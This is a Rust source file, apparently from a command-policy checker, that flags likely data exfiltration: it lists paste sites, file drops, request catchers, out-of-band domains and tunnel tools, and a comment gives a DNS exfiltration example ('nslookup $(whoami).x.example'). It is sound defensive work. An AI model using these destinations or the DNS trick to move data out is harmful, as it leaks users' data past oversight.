//! Where only exfiltration usually goes (rule `exfil.unusual-sink`):
//! services that take data from anyone, DNS names computed at run time,
//! tunnels from the internet to this machine, and destinations a command
//! marked itself (a `git push` to a repository named by its URL).

use clawlaw_sdk::shell::Word;

use crate::argv::{NO_VALUES, subcommand};
use crate::hosts::Dest;
use crate::uses::NetUse;

/// Why an egress goes where only exfiltration usually goes, if it does: a
/// host that takes data from anyone ([`DROP_SITES`]), a DNS name computed
/// at run time (the name carries the data: `nslookup $(whoami).x.example`),
/// a tunnel that opens this machine to the internet, or what the command
/// itself marked (a push to a repository named by URL).
pub(crate) fn unusual_sink(u: &NetUse) -> Option<String> {
    if let Some(why) = u.unusual {
        return Some(why.to_string());
    }
    match &u.dest {
        Dest::Host(h) if drop_site(h) => Some(format!(
            "sends data to {h}, a service that takes data from anyone (a paste site, an anonymous file drop, a request catcher or an out-of-band testing domain)"
        )),
        Dest::Dynamic if DNS_TOOLS.contains(&u.what.as_str()) => Some(
            "looks up a DNS name computed at run time: the name itself carries data out, past any proxy".into(),
        ),
        _ if is_tunnel(&u.what) => {
            Some("opens a tunnel from the internet to this machine".into())
        }
        _ => None,
    }
}

/// DNS and ICMP tools, whose queried names carry data.
const DNS_TOOLS: &[&str] = &[
    "dig",
    "nslookup",
    "host",
    "drill",
    "whois",
    "ping",
    "ping6",
    "traceroute",
    "resolvectl",
];

/// Programs that publish a local port to the internet.
const TUNNELS: &[&str] = &[
    "ngrok",
    "cloudflared",
    "localtunnel",
    // localtunnel's command.
    "lt",
    "bore",
    "pagekite",
    "pagekite.py",
    "telebit",
];

/// Programs that publish a local port to the internet with a subcommand
/// (`tailscale funnel 8000`, `zrok share public 8080`, `devtunnel host -p
/// 8080`).
const TUNNEL_SUBCOMMANDS: &[(&str, &str)] = &[
    ("tailscale", "funnel"),
    ("zrok", "share"),
    ("devtunnel", "host"),
    ("loophole", "http"),
];
/// Operands of such a subcommand that only report on a tunnel or undo one
/// (`tailscale funnel status`, `tailscale funnel 8000 off`).
const TUNNEL_QUERIES: &[&str] = &["status", "reset", "off", "--help", "-h"];

/// The tunnel program `p` run with `args` opens, as uses name it (`ngrok`,
/// `tailscale funnel`), if it opens one.
pub(crate) fn tunnel(p: &str, args: &[Word]) -> Option<String> {
    if TUNNELS.contains(&p) {
        return Some(p.to_string());
    }
    let (_, sub) = TUNNEL_SUBCOMMANDS
        .iter()
        .find(|(program, _)| *program == p)?;
    let (found, rest) = subcommand(args, &NO_VALUES)?;
    (found == *sub
        && !rest
            .iter()
            .any(|w| TUNNEL_QUERIES.contains(&w.text.as_str())))
    .then(|| format!("{p} {sub}"))
}

/// Whether a use's program (as [`tunnel`] names it) is a tunnel.
fn is_tunnel(what: &str) -> bool {
    TUNNELS.contains(&what)
        || TUNNEL_SUBCOMMANDS
            .iter()
            .any(|(p, s)| what.strip_prefix(p).and_then(|r| r.strip_prefix(' ')) == Some(s))
}

/// Services that take data from anyone and hand it to whoever knows where
/// to look: paste sites, anonymous file drops, request catchers and
/// out-of-band interaction domains (a host or any name under it).
const DROP_SITES: &[&str] = &[
    "pastebin.com",
    "paste.ee",
    "hastebin.com",
    "ghostbin.com",
    "dpaste.com",
    "dpaste.org",
    "termbin.com",
    "ix.io",
    "sprunge.us",
    "0x0.st",
    "paste.rs",
    "rentry.co",
    "controlc.com",
    "transfer.sh",
    "file.io",
    "tmpfiles.org",
    "bashupload.com",
    "temp.sh",
    "catbox.moe",
    "litterbox.catbox.moe",
    "gofile.io",
    "anonfiles.com",
    "filebin.net",
    "oshi.at",
    "keep.sh",
    "webhook.site",
    "requestbin.com",
    "requestcatcher.com",
    "pipedream.net",
    "beeceptor.com",
    "hookbin.com",
    "mockbin.org",
    "postb.in",
    "ptsv2.com",
    "ptsv3.com",
    "interact.sh",
    "oast.fun",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.me",
    "burpcollaborator.net",
    "oastify.com",
    "canarytokens.com",
    "dnslog.cn",
    "ceye.io",
    "requestrepo.com",
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "trycloudflare.com",
    "loca.lt",
    "serveo.net",
    "localhost.run",
];

fn drop_site(host: &str) -> bool {
    DROP_SITES
        .iter()
        .any(|d| host == *d || host.strip_suffix(d).is_some_and(|rest| rest.ends_with('.')))
}
